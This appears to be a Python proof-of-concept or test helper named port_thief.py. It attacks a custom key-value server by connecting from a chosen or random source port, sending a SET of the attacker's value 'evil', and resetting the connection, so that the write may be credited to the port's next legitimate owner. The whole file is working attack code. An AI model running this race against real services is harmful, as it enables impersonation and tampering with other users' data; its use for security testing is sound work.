"""port_thief.py MODE ADDRESS PORT KEY [SOURCE_PORT [FILE]]: as another user, send a request that may be taken for one of the
port's next owner.

once    SET KEY from SOURCE_PORT, wait until FILE exists, then reset the connection
loop    SET KEY from random ports and reset at once, until killed; prints a line per hundred
"""
import os
import socket
import struct
import sys
import time

VALIDATE = struct.pack("=BI", 0, 0x3C85F7CE)
mode, address, port, key = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4].encode()
request = VALIDATE + struct.pack("=BQ", 1, len(key)) + key + struct.pack("=Q", 4) + b"evil"


def attack(source=0, until=lambda: None):
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # close() resets
        s.bind(("", source))
        s.connect((address, port))
        s.sendall(request)
        until()


def wait_for_file():
    end = time.monotonic() + 60
    print("sent", flush=True)
    while not os.path.exists(sys.argv[6]) and time.monotonic() < end:
        time.sleep(0.01)


if mode == "once":
    attack(int(sys.argv[5]), wait_for_file)
    print("reset", flush=True)
    sys.exit(0)
n = 0
while True:
    try:
        attack()
    except OSError:
        pass
    n += 1
    if n % 100 == 0:
        print(n, flush=True)
